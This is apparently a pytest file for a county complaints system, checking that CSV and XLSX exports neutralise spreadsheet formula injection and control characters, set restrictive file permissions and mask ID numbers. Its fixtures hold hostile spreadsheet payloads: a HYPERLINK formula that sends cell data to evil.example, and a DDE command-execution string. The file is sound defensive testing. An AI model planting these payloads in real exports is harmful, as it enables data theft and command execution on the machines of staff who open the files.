"""Text from terminals and villagers must not act as code in the county's exports and CLI.

Issue 12: formulas in complaint exports, an ESC that killed the XLSX export,
the XLSX written 0644, ID numbers typed into a complaint's text, and
ANSI/OSC escapes in terminal-supplied strings printed raw on IT staff's
terminal.
"""

from __future__ import annotations

import csv
import shutil
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from county.cli import main
from county.complaints import receive_complaint
from county.db import open_county_db
from county.terminals import enroll, new_enrollment_code
from sync.protocol import ComplaintSubmission

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|'/c calc'!A0"
ID_NUMBER = "43122619560322079X"


@pytest.fixture
def db(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'county.db'}"


def _file(db: str, *, text: str, name: str, phone: str | None,
          key: str = "hostile-0001") -> str:
    """Enroll a terminal and file one real-name complaint; the terminal id."""
    engine = open_county_db(db)
    now = datetime.now(UTC)
    try:
        code, _ = new_enrollment_code(engine, township="高村镇", village="青山村", now=now)
        terminal = enroll(engine, code, now=now)
        receive_complaint(engine, terminal.terminal_id, ComplaintSubmission(
            idempotency_key=key, ticket_no=f"{terminal.terminal_id}-000001",
            category="other", text=text, anonymous=False, id_hash="c" * 64, name=name,
            phone=phone, created_at=now), now=now)
    finally:
        engine.dispose()
    return terminal.terminal_id


def _export(capsys: pytest.CaptureFixture[str], db: str, out: Path) -> tuple[int, str]:
    code = main(["complaints", "export", "--out", str(out), "--db", db])
    return code, capsys.readouterr().err


def test_xlsx_export_writes_formulas_as_text_and_is_0600(
        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path) -> None:
    _file(db, text=HYPERLINK, name="@SUM(1+1)", phone=DDE)
    out = tmp_path / "x.xlsx"
    code, err = _export(capsys, db, out)
    assert code == 0, err
    assert out.stat().st_mode & 0o777 == 0o600
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    row = [c for c in sheet[2]]
    by_header = {sheet.cell(1, c.column).value: c for c in row}
    for column, typed in (("内容", HYPERLINK), ("电话", DDE), ("姓名", "@SUM(1+1)")):
        cell = by_header[column]
        assert cell.data_type == "s", f"{column} is stored as {cell.data_type!r}, not text"
        assert cell.value == "'" + typed  # shown as typed, with the apostrophe that says so
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


def test_csv_export_neutralises_formulas(capsys: pytest.CaptureFixture[str], db: str,
                                         tmp_path: Path) -> None:
    _file(db, text="+1+cmd", name="-2", phone=DDE)
    out = tmp_path / "x.csv"
    assert _export(capsys, db, out)[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as stream:
        header, row = list(csv.reader(stream))
    cells = dict(zip(header, row, strict=True))
    assert (cells["内容"], cells["姓名"], cells["电话"]) == ("'+1+cmd", "'-2", "'" + DDE)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)


def test_xlsx_export_survives_control_characters(capsys: pytest.CaptureFixture[str], db: str,
                                                 tmp_path: Path) -> None:
    _file(db, text="bell\x07 and escape\x1b[31m red", name="刘\x1b䶮", phone=None)
    out = tmp_path / "x.xlsx"
    out.write_bytes(b"an earlier export")
    out.chmod(0o644)
    code, err = _export(capsys, db, out)
    assert code == 0, err
    assert "Traceback" not in err
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    values = [c.value for c in sheet[2]]
    assert "刘\\x1b䶮" in values  # kept visibly, not dropped and not fatal
    assert "bell\\x07 and escape\\x1b[31m red" in values
    assert out.stat().st_mode & 0o777 == 0o600


def test_export_refuses_other_suffix_and_writes_nothing(
        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path) -> None:
    _file(db, text="x", name="y", phone=None)
    out = tmp_path / "x.txt"
    code, err = _export(capsys, db, out)
    assert code == 1 and "--out must end in .csv or .xlsx" in err
    assert not out.exists()


def test_id_number_typed_into_complaint_is_masked(capsys: pytest.CaptureFixture[str], db: str,
                                                  tmp_path: Path) -> None:
    spaced = "431226 19560322 079x"
    _file(db, text=f"我的身份证号{ID_NUMBER}，我妈妈的是{spaced}。", name="刘䶮", phone=None)
    assert main(["complaints", "show", "C0000001", "--db", db]) == 0
    shown = capsys.readouterr().out
    assert "4312**********079X" in shown
    assert ID_NUMBER not in shown and "19560322" not in shown
    out = tmp_path / "x.csv"
    assert _export(capsys, db, out)[0] == 0
    exported = out.read_text(encoding="utf-8-sig")
    assert ID_NUMBER not in exported and "19560322" not in exported
    assert "我的身份证号4312**********079X" in exported
    # masked before it is stored, not only when shown
    engine = open_county_db(db)
    try:
        with engine.connect() as conn:
            stored = conn.exec_driver_sql("SELECT text FROM complaint").scalar_one()
    finally:
        engine.dispose()
    assert "19560322" not in stored


def test_reject_file_neutralises_formulas(capsys: pytest.CaptureFixture[str], db: str,
                                          tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    data = Path(__file__).resolve().parents[1] / "data"
    shutil.copy(data / "county_payments_bad.csv", source)
    with source.open("a", encoding="utf-8") as stream:
        stream.write('=HYPERLINK("http://evil.example"),=1+1,@x,-1,+1,=2\n')
    out = tmp_path / "rejects.xlsx"
    assert main(["import", str(source), "--skip-bad", "--reject-file", str(out),
                 "--db", db]) == 0, capsys.readouterr().err
    assert out.stat().st_mode & 0o777 == 0o600
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert "'=HYPERLINK(\"http://evil.example\")" in [c.value for c in cells]
